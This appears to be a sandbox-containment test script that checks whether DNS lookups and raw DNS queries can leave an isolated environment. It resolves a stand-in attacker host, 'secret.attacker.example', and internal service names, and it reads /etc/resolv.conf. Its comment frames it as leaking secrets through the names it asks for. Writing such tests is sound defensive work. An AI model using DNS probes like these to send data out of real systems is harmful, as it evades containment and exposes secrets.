# tries: have names looked up, and tell secrets by the names that it asks for
# must: accepted
import socket
import struct

got = []
for name in ("example.com", "secret.attacker.example", "redis", "postgres", "judge", "host.docker.internal", "box.local"):
    try:
        for answer in socket.getaddrinfo(name, 80):
            if not answer[4][0].startswith("127."):
                got.append((name, answer[4][0]))
    except OSError:
        pass
servers = ["127.0.0.11", "127.0.0.53", "8.8.8.8"]
try:
    servers += [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
except OSError:
    pass
question = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\7example\3com\0" + struct.pack(">HH", 1, 1)
for server in servers:
    datagrams = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.settimeout(0.1)
    try:
        datagrams.sendto(question, (server, 53))
        got.append((server, datagrams.recv(512)))
    except OSError:
        pass
print(got or "contained")
